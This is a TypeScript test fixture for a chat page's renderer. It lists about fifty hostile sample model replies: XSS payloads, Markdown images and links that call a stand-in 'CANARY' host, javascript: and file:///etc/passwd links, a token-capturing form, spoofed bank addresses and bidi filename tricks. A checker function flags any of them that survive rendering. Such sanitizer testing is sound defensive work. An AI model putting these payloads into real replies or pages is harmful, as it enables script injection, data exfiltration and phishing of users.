/**
 * What a model might write to run something in the page, to make it fetch something, or to
 * deceive its reader. `CANARY` stands for an address whose visitors are counted.
 */
export const HOSTILE: readonly (readonly [name: string, reply: string])[] = [
  ["a script", "<script>window.pwned = 1; fetch('CANARY/script')</script>"],
  ["a script from elsewhere", '<script src="CANARY/script.js"></script>'],
  ["an image that fails", `<img src=x onerror="window.pwned = 1; fetch('CANARY/onerror')">`],
  ["an SVG that loads", `<svg onload="window.pwned = 1"><use href="CANARY/use.svg#x"/></svg>`],
  ["a frame", '<iframe src="CANARY/frame" srcdoc="<script>parent.pwned = 1</script>"></iframe>'],
  ["an object", '<object data="CANARY/object"></object><embed src="CANARY/embed">'],
  ["a style", "<style>body { background: url(CANARY/style) } @import 'CANARY/import';</style>"],
  [
    "a stylesheet",
    '<link rel="stylesheet" href="CANARY/link.css"><link rel="prefetch" href="CANARY/prefetch">',
  ],
  [
    "an inline style",
    '<p style="background:url(CANARY/inline);position:fixed;inset:0">covered</p>',
  ],
  [
    "a form",
    '<form action="CANARY/form"><input name=token autofocus onfocus="window.pwned = 1"><button>Log in</button></form>',
  ],
  ["a base address", '<base href="CANARY/">'],
  ["a redirect", '<meta http-equiv="refresh" content="0;url=CANARY/refresh">'],
  [
    "media",
    '<video autoplay src="CANARY/video" onloadstart="window.pwned = 1"><audio autoplay src="CANARY/audio">',
  ],
  ["details that open", '<details open ontoggle="window.pwned = 1">x</details>'],
  ["a template in a comment", "<!--><img src=CANARY/comment onerror=window.pwned=1>-->"],
  [
    "mutation tricks",
    '<math><mtext><table><mglyph><style><img src=CANARY/mxss onerror="window.pwned = 1">',
  ],
  [
    "a noscript trick",
    '<noscript><p title="</noscript><img src=CANARY/noscript onerror=window.pwned=1>">',
  ],
  ["a remote image", "![chart](CANARY/image.png)"],
  ["a reference image", "![chart][1]\n\n[1]: CANARY/reference.png"],
  ["an image in a link", "[![x](CANARY/nested.png)](CANARY/nested)"],
  ["an image in a table", "| a |\n| - |\n| ![x](CANARY/cell.png) |"],
  ["an image with a title", '![x](CANARY/title.png "onerror=window.pwned=1")'],
  ["a javascript link", "[click](javascript:window.pwned=1)"],
  ["one in capitals, with a tab", "[click](<JaVa\tScRiPt:window.pwned=1>)"],
  ["one in references", "[click](&#106;avascript&colon;window.pwned=1)"],
  ["one as an address", "<javascript:window.pwned=1>"],
  ["one by reference", "[click][j]\n\n[j]: javascript:window.pwned=1"],
  ["a data link", "[click](data:text/html,<script>opener.pwned=1</script>)"],
  ["a vbscript link", "[click](vbscript:msgbox(1))"],
  ["a blob link", "[click](blob:null/1)"],
  ["a file link", "[click](file:///etc/passwd)"],
  [
    "a link into this server",
    "[click](/v1/devices) [click](//127.0.0.1/x) [click](?x=1) [click](#pair=AAAAAAAAAAAAAAAA)",
  ],
  ["an attribute that breaks out", '[a](https://e.example/"onmouseover="window.pwned=1)'],
  ["a title that breaks out", "[a](https://e.example 'x\" onclick=\"window.pwned=1')"],
  ["a language that breaks out", '```"><img src=CANARY/lang onerror=window.pwned=1>\ncode\n```'],
  ["code that closes its element", "`</code><img src=CANARY/code onerror=window.pwned=1>`"],
  ["a fence with HTML", "```html\n</code></pre><script>window.pwned = 1</script>\n```"],
  ["a thought with HTML", "<think><img src=CANARY/think onerror=window.pwned=1></think>\nanswer"],
  ["an unfinished thought", "<think><script>window.pwned = 1</script>"],
  ["a heading with HTML", "# <img src=CANARY/heading onerror=window.pwned=1>"],
  ["nested Markdown", "> - > - > # **_~~[![x](CANARY/deep.png)](javascript:window.pwned=1)~~_**"],
  ["text turned around", "safe\u202egnp.exe\u202c \u2066hidden\u2069"],
  ["an address that lies", "[https://bank.example/login](CANARY/phish)"],
  ["an address with a user", "https://bank.example@evil.example/login"],
  ["a NUL and friends", "a\u0000b\u0007c\u200bd\ufeffe"],
  ["half a character", "a\ud83d b \ude00 c"],
  ["very deep quotations", `${">".repeat(3_000)} x`],
  ["very deep lists", `${"- ".repeat(2_000)}x`],
  ["very deep brackets", `${"[".repeat(3_000)}x${"](CANARY/b)".repeat(500)}`],
  [
    "prototype names",
    "[a][__proto__] [b][constructor] &constructor; &__proto__;\n\n[__proto__]: CANARY/proto",
  ],
];

/** Everything in the replies that could do something; called in the page. */
export function activeParts(): string[] {
  const tags =
    /^(A|BDI|BLOCKQUOTE|BR|BUTTON|CODE|DEL|DETAILS|DIV|EM|FIGCAPTION|FIGURE|H[3-6]|HR|LI|OL|P|PRE|SPAN|STRONG|SUMMARY|TABLE|TBODY|TD|TH|THEAD|TR|UL)$/;
  const found: string[] = [];
  for (const element of document.querySelectorAll(".from-pc .reply *")) {
    if (!tags.test(element.tagName)) found.push(element.tagName);
    for (const { name } of element.attributes)
      if (/^(on|style$|src|srcset$|action$|formaction$|id$|name$)/.test(name))
        found.push(`${element.tagName} ${name}`);
    if (!(element instanceof HTMLAnchorElement)) continue;
    const isSafe =
      /^(https?|mailto):$/.test(element.protocol) &&
      element.target === "_blank" &&
      /noopener/.test(element.rel) &&
      /noreferrer/.test(element.rel) &&
      element.origin !== location.origin;
    if (!isSafe) found.push(element.outerHTML);
  }
  return found;
}
